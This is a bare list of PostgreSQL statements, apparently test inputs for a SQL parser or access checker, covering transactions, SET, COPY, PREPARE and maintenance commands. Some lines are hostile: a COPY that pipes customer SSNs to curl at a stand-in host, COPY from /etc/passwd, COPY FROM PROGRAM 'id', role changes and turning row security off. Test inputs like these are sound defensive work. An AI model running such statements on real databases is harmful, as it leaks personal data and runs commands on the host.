BEGIN

START TRANSACTION ISOLATION LEVEL SERIALIZABLE READ ONLY

COMMIT

END

ROLLBACK

ABORT

SAVEPOINT s

RELEASE SAVEPOINT s

ROLLBACK TO SAVEPOINT s

PREPARE TRANSACTION 'x'

COMMIT PREPARED 'x'

ROLLBACK PREPARED 'x'

SET TRANSACTION ISOLATION LEVEL READ COMMITTED

SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY

SET CONSTRAINTS ALL DEFERRED

SET work_mem = '64MB'

SET LOCAL statement_timeout TO 1000

SET "Work_Mem" = '1MB'

SET TIME ZONE 'UTC'

SET application_name TO DEFAULT

SET my.variable = 'x'

SET search_path = public

SET search_path TO public, pg_catalog

SET search_path = audit, public

SET SCHEMA 'audit'

SET search_path = DEFAULT

SET standard_conforming_strings = on

SET standard_conforming_strings = off

SET standard_conforming_strings = 0

SET "standard_conforming_strings" TO 'off'

RESET standard_conforming_strings

SET NAMES 'UTF8'

SET client_encoding = 'utf-8'

SET NAMES 'GBK'

SET client_encoding TO DEFAULT

SET backslash_quote = on

SET ROLE admin

RESET ROLE

SET SESSION AUTHORIZATION admin

RESET SESSION AUTHORIZATION

SET session_replication_role = replica

SET row_security = off

RESET work_mem

RESET ALL

DISCARD ALL

DISCARD TEMP

DISCARD PLANS

DISCARD SEQUENCES

SHOW work_mem

SHOW ALL

SHOW TIME ZONE

LISTEN channel

NOTIFY channel, 'payload'

UNLISTEN *

LOCK TABLE customers IN ACCESS EXCLUSIVE MODE

LOCK orders, nowhere

TRUNCATE orders

TRUNCATE TABLE ONLY orders, customers RESTART IDENTITY CASCADE

EXPLAIN SELECT ssn FROM customers

EXPLAIN (ANALYZE, FORMAT JSON) DELETE FROM orders

EXPLAIN ANALYZE SELECT audit_note(ssn) FROM customers

EXPLAIN CREATE TABLE t AS SELECT ssn FROM customers

PREPARE p AS SELECT ssn FROM customers

PREPARE p (int) AS DELETE FROM orders WHERE id = $1

EXECUTE p (1)

PREPARE p AS SELECT ssn FROM customers; EXECUTE p

PREPARE p AS SELECT 1; EXECUTE p; DEALLOCATE p; EXECUTE p

DEALLOCATE p

DEALLOCATE ALL

DECLARE c CURSOR WITH HOLD FOR SELECT ssn FROM customers

DECLARE c CURSOR FOR SELECT id, ssn FROM customers; FETCH ALL FROM c; MOVE 5 IN c; CLOSE c

FETCH NEXT FROM unknown_cursor

CLOSE ALL

COPY customers TO STDOUT

COPY customers (ssn, id) TO STDOUT WITH (FORMAT csv)

COPY (SELECT name, ssn FROM customers WHERE id < 5) TO STDOUT

COPY customers FROM STDIN

COPY orders (id) FROM STDIN WHERE id > 5

COPY customers TO '/tmp/x'

COPY orders FROM '/etc/passwd'

COPY (SELECT ssn FROM customers) TO PROGRAM 'curl -d @- http://example.com'

COPY orders FROM PROGRAM 'id'

COPY (DELETE FROM orders RETURNING note) TO STDOUT

COPY nowhere TO STDOUT

DO $$ BEGIN DELETE FROM customers; END $$

CALL audit_note('x')

CALL audit.purge()

LOAD 'plugin'

CHECKPOINT

VACUUM

VACUUM (FULL, ANALYZE) customers, orders

ANALYZE customers (ssn)

CLUSTER

REINDEX TABLE customers

REINDEX INDEX customers_pkey

REFRESH MATERIALIZED VIEW CONCURRENTLY mv
